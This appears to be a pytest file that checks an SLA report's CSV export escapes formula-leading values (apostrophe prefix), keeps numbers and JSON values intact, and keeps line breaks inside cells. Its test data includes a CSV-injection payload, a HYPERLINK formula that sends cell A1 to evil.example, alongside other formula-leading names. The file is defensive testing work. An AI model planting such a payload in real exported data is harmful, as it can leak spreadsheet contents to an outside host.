"""The SLA report's CSV opens in a spreadsheet: a rule id or a moderator's name that starts like
a formula is written as text (behind an apostrophe, as the payout CSV writes it), numbers stay
numbers, and the JSON keeps every value as it is.

# No store: the report is built from its lines by hand (its CSV is all that is checked)
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from console.escalate.report import SlaLine, SlaReport
from console.spreadsheet import FORMULA_STARTS, read_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [FORMULA, "+44 7700 900123", "-2+3", "@SUM(A1)", "\tx", "\rcmd", "'quoted", "alice"]


def _report() -> SlaReport:
    lines = [SlaLine("rule", "-legal", raised=3, open=1, acknowledge_breaches=2, _ack=[180.0])]
    lines += [SlaLine("moderator", name, open=1, raised=1, _res=[12.25, 20.0]) for name in NAMES]
    for line in lines:
        line.finish()
    return SlaReport("2026-11-20T12:00:00Z", 3, 1, 1, lines)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_cell_of_the_csv_starts_like_a_formula() -> None:
    rows = _rows(_report().to_csv())
    assert len(rows) == 1 + len(NAMES)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_reads_back_as_it_was(name: str) -> None:
    rows = {read_cell(row["key"]): row for row in _rows(_report().to_csv())}
    assert name in rows
    escaped = rows[name]["key"]
    assert escaped == ("'" + name if name[0] in "=+-@\t\r'" else name)


def test_numbers_stay_numbers() -> None:
    rows = _rows(_report().to_csv())
    rule = next(row for row in rows if row["group"] == "rule")
    assert rule["key"] == "'-legal"
    assert (rule["raised"], rule["open"], rule["acknowledge_breaches"]) == ("3", "1", "2")
    assert rule["median_acknowledge_minutes"] == "180.0"
    assert rule["median_resolve_minutes"] == ""  # none resolved: an empty cell, not a text
    alice = next(row for row in rows if row["key"] == "alice")
    assert alice["median_resolve_minutes"] == "16.1"


def test_the_json_keeps_the_names_as_they_are() -> None:
    data = json.loads(_report().to_json())
    assert [x["key"] for x in data["per_moderator"]] == NAMES
    assert data["per_rule"][0]["key"] == "-legal"


@pytest.mark.parametrize("name", ["mid\rline", "mid\nline", "mid\r\nline"])
def test_a_line_break_inside_a_name_stays_in_its_cell(name: str) -> None:
    """Rows end in CRLF, so a bare CR or LF in a cell is quoted: read by a reader that takes
    either as a row's end (as a spreadsheet does), the report has as many rows as lines."""
    report = _report()
    report.lines.append(SlaLine("moderator", name, raised=1))
    text = report.to_csv()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 2 + len(NAMES)
    assert rows[-1]["key"] == name and rows[-1]["raised"] == "1"
